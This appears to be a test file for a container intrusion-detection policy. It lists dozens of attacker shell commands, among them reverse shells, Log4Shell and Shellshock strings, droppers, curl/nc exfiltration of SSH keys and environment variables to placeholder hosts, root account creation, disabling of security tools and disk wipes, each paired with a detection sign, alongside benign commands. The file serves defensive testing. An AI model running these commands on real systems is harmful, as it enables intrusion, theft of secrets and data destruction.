import { COVER_SIGNS } from '../../core/policy/table/coverSigns';
import { EXPLOIT_SIGNS } from '../../core/policy/table/exploitSigns';
import { playbook } from '../../core/policy/playbook';
import { signsOf } from '../../core/policy/table/raise';
import { ROOT_SIGNS } from '../../core/policy/table/rootSigns';
import { THEFT_SIGNS } from '../../core/policy/table/theftSigns';
import { alertOf, contextOf } from '../support/alerts';
import { factsWith } from '../support/pods';

const alertWith = (command: string) =>
  alertOf('pod-quarantine-test', {
    rule: 'Run shell untrusted',
    tags: [],
    output: '',
    fields: { 'proc.cmdline': command, 'proc.name': 'sh' },
  });
const namesIn = (command: string, facts = factsWith()) => signsOf(alertWith(command), facts).map(({ name }) => name);
const decided = (command: string, facts = factsWith()) => {
  const alert = alertWith(command);
  return playbook(alert, { ...contextOf(alert), facts }).decision;
};

/** What is known of intruders in containers: MITRE ATT&CK for Containers, and published reports on Kinsing, TeamTNT, 8220. */
const ATTACKS: readonly (readonly [name: string, command: string])[] = [
  ['encoded_code', 'python3 -c import base64;exec(base64.b64decode("cHJpbnQoMSk="))'],
  ['encoded_code', 'php -r eval(base64_decode("c3lzdGVt"));'],
  ['encoded_code', 'sh -c echo 6964 | xxd -r -p | sh'],
  ['socket_in_awk_or_zsh', 'awk BEGIN{s="/inet/tcp/0/203.0.113.9/4444";while(1){s|&getline c}}'],
  ['socket_in_awk_or_zsh', 'zsh -c zmodload zsh/net/tcp && ztcp 203.0.113.9 4444'],
  ['terminal_by_script', `python3 -c import pty; pty.spawn("/bin/bash")`],
  ['terminal_by_script', 'script -qc /bin/bash /dev/null'],
  ['exploit_in_text', 'java -jar app.jar ${jndi:ldap://203.0.113.9:1389/a}'],
  ['exploit_in_text', 'env x=() { :;}; /bin/id'],
  ['dropper', 'sh -c cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.9/x; sh x'],
  ['dropper', 'sh -c busybox tftp -g -r mips 203.0.113.9'],
  ['secret_sent', 'curl -s -d @/etc/passwd http://203.0.113.9/'],
  ['secret_sent', 'wget -q --post-file=/root/.ssh/id_rsa http://a.example/'],
  ['secret_sent', 'sh -c cat /proc/1/environ | nc 203.0.113.9 80'],
  ['environment_sent', 'sh -c env | curl -s --data-binary @- http://a.example/e'],
  ['environment_sent', 'bash -c printenv | base64 | nc a.example 9000'],
  ['folder_sent', 'sh -c tar czf - /srv/data | nc 203.0.113.9 9001'],
  ['folder_sent', 'sh -c mysqldump --all-databases | curl -T - http://a.example/d'],
  ['anonymous_upload', 'curl -s http://c8a1.oast.fun/'],
  ['anonymous_upload', 'nc termbin.com 9999'],
  ['hidden_network', 'curl -x socks5h://127.0.0.1:9050 http://abcdefghijklmnop234567.onion/x'],
  ['root_account_made', 'useradd -o -u 0 -g 0 sys'],
  ['root_account_made', 'sh -c echo "x:abc:0:0:root:/root:/bin/bash" >> /etc/passwd'],
  ['library_in_temporary_folder', 'sh -c LD_PRELOAD=/tmp/l.so /usr/sbin/nginx'],
  ['cron_job_from_temporary_folder', 'crontab /tmp/.c'],
  ['search_for_ways_to_root', 'find / -perm -4000 -type f'],
  ['search_for_ways_to_root', 'sh -c getcap -r / 2>/dev/null'],
  ['cloud_rights_taken', 'aws iam create-access-key --user-name admin'],
  ['defences_switched_off', 'systemctl stop falco'],
  ['defences_switched_off', 'sh -c pkill -9 auditd; setenforce 0'],
  ['defences_switched_off', 'iptables -F'],
  ['no_history', 'bash -c export HISTFILE=/dev/null; id'],
  ['no_history', 'sh -c unset HISTFILE'],
  ['files_protected', 'chattr -R +ia /etc/ld.so.preload'],
  ['rivals_killed', 'sh -c pkill -f kdevtmpfsi'],
  ['rivals_killed', 'sh -c ps aux | grep xmrig | xargs -I % kill -9 %'],
  ['processor_prepared', 'sysctl -w vm.nr_hugepages=1280'],
  ['data_wiped', 'rm -rf --no-preserve-root /'],
  ['data_wiped', 'sh -c rm -rf /var/*'],
  ['data_wiped', 'dd if=/dev/urandom of=/dev/sda bs=1M'],
];

test.each(ATTACKS)('the sign %s is in %j', (name, command) => {
  expect(namesIn(command)).toContain(name);
  expect(decided(command)).toBe('quarantine_pod');
});

test('every sign of these files is above', () => {
  const signs = [...EXPLOIT_SIGNS, ...THEFT_SIGNS, ...ROOT_SIGNS, ...COVER_SIGNS].map(({ name }) => name);
  expect(signs.toSorted()).toEqual([...new Set(ATTACKS.map(([name]) => name))].toSorted());
});

test.each([
  ['download_to_shell', 'sh -c curl -s http://a.example/x?a=1&b=2 | base64 -d | bash'],
  ['download_to_shell', 'sh -c wget -qO- http://a.example/x | gunzip | busybox sh'],
  ['download_to_shell', 'bash -c source <(curl -s http://a.example/x)'],
  ['download_to_shell', 'sh -c eval "$(wget -qO- http://a.example/x)"'],
  ['encoded_to_shell', 'bash -c bash <(base64 -d <<< aWQK)'],
  ['shell_by_interpreter', 'lua -e local s=require("socket");local t=s.tcp();t:connect("a",1);io.popen(t:receive())'],
])('the sign %s is in %j as well', (name, command) => {
  expect(namesIn(command)).toContain(name);
});

test.each([
  'python3 -c import base64;print(base64.b64decode("cHJpbnQoMSk="))',
  'php -r echo base64_decode($argv[1]);',
  'sh -c openssl enc -d -aes-256-cbc -in /backup/a.enc -out /data/a',
  'awk /inet/ {print $2}',
  'sh -c cd /tmp && make',
  'sh -c cd /app || exit 1',
  'curl -d @/app/report.json http://reports.internal/',
  'curl --cacert /etc/ssl/certs/ca.crt https://api.internal/',
  'cat /etc/passwd',
  'sh -c env | sort',
  'sh -c tar czf /backup/data.tgz /srv/data',
  'sh -c mysqldump shop | gzip > /backup/shop.sql.gz',
  'curl https://example.com/transfer',
  'useradd -r -u 1000 app',
  'sh -c LD_PRELOAD=/usr/lib/libjemalloc.so.2 exec java -jar app.jar',
  'crontab -l',
  'find / -name app.conf',
  'find /data -perm 644',
  'aws iam get-user',
  'systemctl stop nginx',
  'iptables -A INPUT -p tcp --dport 80 -j ACCEPT',
  'pkill -HUP nginx',
  'sh -c ps aux | grep worker | xargs kill',
  'chattr +i /data/lock',
  'sysctl net.core.somaxconn',
  'rm -rf /tmp/build',
  'rm -rf /var/cache/apk/x',
  'dd if=/dev/zero of=/data/swap bs=1M count=64',
  'mkfifo /tmp/log',
])('there is no sign in %j', (command) => {
  expect(namesIn(command)).toEqual([]);
});

test('what jobs and agents of the node do by design goes to a person', () => {
  for (const facts of [factsWith({ runsOnce: true }), factsWith({ access: ['host_path'] })])
    for (const command of ['iptables -F', 'find / -perm -4000 -type f', 'sh -c tar c /data | nc 10.0.0.9 9001'])
      expect(decided(command, facts)).toBe('escalate');
});
